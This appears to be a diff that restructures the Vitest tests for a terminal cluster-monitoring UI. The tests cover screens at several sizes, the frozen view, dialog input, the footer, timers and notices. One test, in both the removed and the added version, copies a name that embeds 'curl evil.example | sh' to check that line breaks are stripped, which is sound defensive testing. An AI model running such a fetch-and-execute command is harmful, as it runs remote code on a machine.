@@ -1,235 +1,150 @@
-import { beforeEach, describe, expect, test } from 'vitest';
+import { expect, test, vi } from 'vitest';
 import { type ScreenName, screenNames, tabKey, tabNames, tabOf } from '../../../src/actions/screen-table.ts';
-import { resources } from '../../../src/cluster/resources.ts';
-import { endpoints } from '../../../src/protocol/endpoints.ts';
-import type { Size } from '../../../src/ui/program/layout.ts';
-import { Runtime } from '../../../src/ui/program/runtime.ts';
-import { createUiStore } from '../../../src/ui/store.ts';
 import { textOf } from '../../support/drawn-table.ts';
-import { type FakeServices, fakeServices } from '../../support/fake-services.ts';
-import { pressOn } from '../../support/key-press.ts';
+import { fakeServices, type Overrides } from '../../support/fake-services.ts';
 import { sampleState } from '../../support/sample-state.ts';
 import { rowsOf } from '../../support/screen-rows.ts';
 import { screenTops } from '../../support/screen-tops.ts';
+import { UiDriver } from '../../support/ui-driver.ts';
 
-const SIZE: Size = { columns: 120, rows: 40 };
-let services: FakeServices;
-let runtime: Runtime;
-let quits: number;
+const SIZE = { columns: 120, rows: 40 };
 
-function open(size: Size = SIZE, screen: ScreenName = 'overview'): void {
-  services = fakeServices(sampleState());
-  quits = 0;
-  runtime = new Runtime(
-    services,
-    createUiStore(screen, { units: 'bits', times: 'relative', ascii: false, lowBandwidth: false }),
-    size,
-    () => quits++,
-  );
-}
-
-const text = () =>
-  runtime
-    .panes()
-    .flatMap((pane) => pane.lines)
-    .map(textOf)
-    .join('\n');
-const press = (...names: string[]) => {
-  for (const name of names) {
-    pressOn(runtime, name === ' ' ? 'space' : name);
-  }
-};
-
-beforeEach(() => open());
-
-test('every tab is one key away, and every screen is drawn at every size', () => {
-  for (const size of [
-    { columns: 40, rows: 12 },
-    { columns: 80, rows: 24 },
-    { columns: 300, rows: 100 },
-  ]) {
-    open(size);
-    for (const name of tabNames) {
-      press(tabKey(name));
-      expect(tabOf(runtime.ui.getState().screen)).toBe(name);
-    }
-    for (const name of screenNames) {
-      runtime.run(`screen.${name}`);
-      runtime.draw();
-      expect(runtime.ui.getState().screen).toBe(name);
-      const own = runtime.panes().filter(({ id }) => !id.startsWith('chrome.'));
-      const rows = rowsOf(own, runtime.area);
-      expect(rows[0]).toMatch(screenTops[name]);
-      expect(rows.slice(1).join(''), name).toMatch(/\w/);
-    }
-  }
-});
-
-test('the freshness dialog names every resource and its path', () => {
-  open({ columns: 120, rows: 40 });
-  press('!');
-  for (const { title, endpoint } of resources) {
-    expect(text()).toMatch(new RegExp(`${title} .*${endpoints[endpoint].path.replace(/[{}]/g, '.')}`));
-  }
-});
-
-describe('a frozen screen', () => {
-  test('does not change and says for how long, while data is still collected', async () => {
-    press(' ');
-    await services.clock.advance(42_000);
-    services.show(sampleState({ name: 'another name' }));
-    runtime.resize(SIZE);
-    expect(text()).toContain('FROZEN 42s');
-    expect(text()).not.toContain('another name');
-    press(' ');
-    expect(text()).toContain('another name');
-    expect(text()).not.toContain('FROZEN');
-  });
-});
-
-describe('help and palette', () => {
-  test('keys typed into a dialog are text, not commands', () => {
-    press(':', 'q');
-    expect(quits).toBe(0);
-    press('esc', 'q');
-    expect(quits).toBe(1);
-  });
-});
-
-test('copied text is one line, whatever line ends a hostile name has', () => {
-  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
-  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
-});
-
-test('units change everywhere at once', () => {
-  expect(text()).toContain('bit/s');
-  press(':units');
-  expect(text()).not.toContain('bit/s');
-  expect(text()).toContain('B/s');
-});
-
-test('the note in a window that is too small is one line in any size', () => {
-  for (const columns of [39, 24, 12, 3]) {
-    open({ columns, rows: 8 });
-    expect(
-      text()
-        .trimEnd()
-        .split('\n')
-        .filter((line) => line.trim() !== ''),
-    ).toHaveLength(1);
-    expect(text()).toContain(columns < 5 ? '40×' : '40×12');
-  }
-});
-
-test(':reset restores the theme of the start at once', () => {
-  const set: (string | undefined)[] = [];
-  const own = fakeServices(sampleState(), {
-    setTheme: (theme) => {
-      set.push(theme);
-      return { theme, message: '' };
-    },
-  });
-  const { startDisplay } = runtime;
-  const other = new Runtime(own, createUiStore('overview', startDisplay), SIZE, () => {});
-  other.run('app.theme', 'paper');
-  other.run('app.reset');
-  expect(set).toEqual(['paper', own.startTheme]);
-  expect(other.ui.getState().theme).toBeUndefined();
-});
-
-test('the footer keeps its keys under a notice, and names only keys that do something', () => {
-  open(SIZE, 'servers');
-  const footer = () =>
-    text()
-      .split('\n')
-      .findLast((line) => line.includes('quit')) ?? '';
-  const border = () =>
-    runtime
-      .panes()
-      .find(({ id }) => id === 'servers.list')
-      ?.lines.at(-1) ?? [];
-  const inBorder = () => textOf(border());
-  expect(inBorder()).toMatch(/^└─ \/ filter ─ f narrow ─ s sort ─+┘$/);
-  expect(border().find(({ text }) => text === 's')?.link).toEqual({ kind: 'command', id: 'table.sort' });
-  expect(footer()).toMatch(/enter open .*\? help .*q quit/);
-  expect(footer()).not.toMatch(/filter|sort/);
-  runtime.notice('Copied the name edge-1a.', 'ok');
-  runtime.draw();
-  expect(footer()).toMatch(/Copied the name edge-1a\. │ .*enter open .*\? help .*q quit/);
-  runtime.goTo('servers', { opened: 'edge-1a' });
-  runtime.draw();
-  expect(footer()).not.toMatch(/filter|sort|view/);
-  expect(inBorder()).not.toMatch(/filter|sort|view/);
-  press('2');
-  expect(footer()).not.toMatch(/open|acknowledge/);
-});
-
-describe('time in the program', () => {
+function open(screen: ScreenName = 'overview', size = SIZE, overrides: Overrides = {}) {
+  const services = fakeServices(sampleState(), overrides);
+  const hands = new UiDriver(services, size, screen);
+  const { runtime } = hands;
   const draws = () => {
     const seen = { times: 0 };
     runtime.subscribe(() => seen.times++);
     return seen;
   };
+  return { services, hands, runtime, draws, clock: services.clock };
+}
 
-  test('a notice disappears after five seconds', async () => {
-    runtime.start();
-    runtime.notice('Copied the name.', 'ok');
-    await services.clock.advance(4_000);
-    expect(text()).toContain('Copied the name.');
-    await services.clock.advance(2_000);
-    expect(text()).not.toContain('Copied the name.');
-    runtime.stop();
-  });
-
-  test('changes within 60 ms are drawn together', async () => {
-    runtime.start();
-    await services.clock.advance(500);
-    const seen = draws();
-    for (const name of ['one', 'two', 'three']) {
-      services.show(sampleState({ name }));
-      await services.clock.advance(10);
-    }
-    expect(seen.times).toBe(0);
-    await services.clock.advance(30);
-    expect(seen.times).toBe(1);
-    expect(text()).toContain('three');
-    runtime.stop();
-  });
-
-  test('the clock advances each second, on the second', async () => {
-    runtime.start();
-    const clockOf = () => /\d\d:\d\d:\d\d(?= *$)/m.exec(text())?.[0].slice(-2);
-    await services.clock.advance(999);
-    expect(clockOf()).toBe('00');
-    await services.clock.advance(1);
-    expect(clockOf()).toBe('01');
-    await services.clock.advance(5_000);
-    expect(clockOf()).toBe('06');
-    runtime.stop();
-  });
-
-  test('nothing is drawn and no timer is left after the end', async () => {
-    runtime.start();
-    services.show(sampleState({ name: 'late' }));
-    runtime.stop();
-    const seen = draws();
-    services.show(sampleState({ name: 'later' }));
-    await services.clock.advance(5_000);
-    expect([seen.times, services.clock.waiting]).toEqual([0, 0]);
-  });
+test.each([
+  { columns: 40, rows: 12 },
+  { columns: 80, rows: 24 },
+  { columns: 300, rows: 100 },
+])('every tab is one key away, and every screen is drawn, in $columns×$rows', (size) => {
+  const { hands, runtime } = open('overview', size);
+  for (const name of tabNames) {
+    hands.press(tabKey(name));
+    expect(tabOf(runtime.ui.getState().screen)).toBe(name);
+  }
+  for (const name of screenNames) {
+    runtime.run(`screen.${name}`);
+    runtime.draw();
+    expect(runtime.ui.getState().screen).toBe(name);
+    const own = runtime.panes().filter(({ id }) => !id.startsWith('chrome.'));
+    const rows = rowsOf(own, runtime.area);
+    expect(rows[0]).toMatch(screenTops[name]);
+    expect(rows.slice(1).join(''), name).toMatch(/\w/);
+  }
 });
 
-test('a listener sees each key until it is removed', () => {
-  const seen: string[] = [];
-  const off = runtime.onPress(({ name }) => seen.push(name));
-  press('3', 'j');
-  off();
-  press('4');
-  expect(seen).toEqual(['3', 'j']);
+test('a frozen screen does not change and says for how long, while data is still collected', async () => {
+  const { hands, services, clock } = open();
+  hands.press('space');
+  await clock.advance(42_000);
+  services.show(sampleState({ name: 'another name' }));
+  hands.sees('FROZEN 42s').lacks('another name').press('space').sees('another name').lacks('FROZEN');
+});
+
+test('keys typed into a dialog are text, not commands', () => {
+  const { hands } = open();
+  expect(hands.press(':', 'q').quits).toBe(0);
+  expect(hands.press('esc', 'q').quits).toBe(1);
+});
+
+test('copied text is one line, whatever line ends a hostile name has', () => {
+  const { runtime, services } = open();
+  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
+  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
+});
+
+test.each([39, 24, 12, 3])(
+  'the note in a window of %i columns, which is too small, is one line',
+  (columns) => {
+    const rows = open('overview', { columns, rows: 8 }).hands.screen.split('\n');
+    expect(rows.filter((line) => line.trim() !== '')).toEqual([expect.stringContaining('40×')]);
+  },
+);
+
+test('the footer keeps its keys under a notice, and names only keys that do something', () => {
+  const { hands, runtime } = open('servers');
+  const footer = () => hands.screen.split('\n').at(-1) ?? '';
+  const border = () => hands.pane('servers.list')?.lines.at(-1) ?? [];
+  expect(textOf(border())).toMatch(/^└─ \/ filter ─ f narrow ─ s sort ─+┘$/);
+  expect(border().find(({ text }) => text === 's')?.link).toEqual({ kind: 'command', id: 'table.sort' });
+  expect(footer()).toMatch(/enter open .*\? help .*q quit/);
+  expect(footer()).not.toMatch(/filter|sort/);
+  runtime.notice('Copied the name edge-1a.', 'ok');
+  expect(footer()).toMatch(/Copied the name edge-1a\. │ .*enter open .*\? help .*q quit/);
+  runtime.goTo('servers', { opened: 'edge-1a' });
+  expect(footer() + textOf(border())).not.toMatch(/filter|sort|view/);
+  hands.press('2');
+  expect(footer()).not.toMatch(/open|acknowledge/);
+});
+
+test('changes within 60 ms are drawn together', async () => {
+  const { hands, services, runtime, clock, draws } = open();
+  runtime.start();
+  await clock.advance(500);
+  const seen = draws();
+  for (const name of ['one', 'two', 'three']) {
+    services.show(sampleState({ name }));
+    await clock.advance(10);
+  }
+  expect(seen.times).toBe(0);
+  await clock.advance(30);
+  expect(seen.times).toBe(1);
+  hands.sees('three');
+  runtime.stop();
+});
+
+test('the clock advances each second, on the second, and a notice disappears after five', async () => {
+  const { runtime, clock } = open();
+  runtime.start();
+  runtime.notice('Copied the name.', 'ok');
+  const header = () =>
+    runtime
+      .panes()
+      .flatMap(({ lines }) => lines.map(textOf))
+      .join('\n');
+  const clockOf = () => /\d\d:\d\d:\d\d(?= *$)/m.exec(header())?.[0].slice(-2);
+  for (const [ms, second] of [
+    [999, '00'],
+    [1, '01'],
+    [5_000, '06'],
+  ] as const) {
+    await clock.advance(ms);
+    expect([clockOf(), second === '06' || header().includes('Copied')]).toEqual([second, true]);
+  }
+  expect(header()).not.toContain('Copied');
+  runtime.stop();
+});
+
+test('nothing is drawn and no timer is left after the end', async () => {
+  const { services, runtime, clock, draws } = open();
+  runtime.start();
+  services.show(sampleState({ name: 'late' }));
+  runtime.stop();
+  const seen = draws();
+  services.show(sampleState({ name: 'later' }));
+  await clock.advance(5_000);
+  expect([seen.times, clock.waiting]).toEqual([0, 0]);
 });
 
 test('another cluster starts with nothing opened, frozen or visited', () => {
-  press('3', 'enter', ' ', '?');
+  const { hands, runtime } = open();
+  hands.press('3', 'enter', 'space', '?');
   runtime.forget();
   expect(runtime.ui.getState()).toMatchObject({ slices: {}, back: [], dialogs: [], held: undefined });
+});
+
+test('a screen reads what it needs when it is entered, and not again while it stays open', () => {
+  const readAudit = vi.fn(async () => ({ entries: [], unreadable: 0, path: undefined }));
+  const { hands } = open('servers', SIZE, { readAudit });
+  const reads = (...keys: string[]) => hands.press(...keys) && readAudit.mock.calls.length;
+  expect([reads('6'), reads('6', 'j', 'k'), reads('3', '6')]).toEqual([1, 1, 2]);
 });
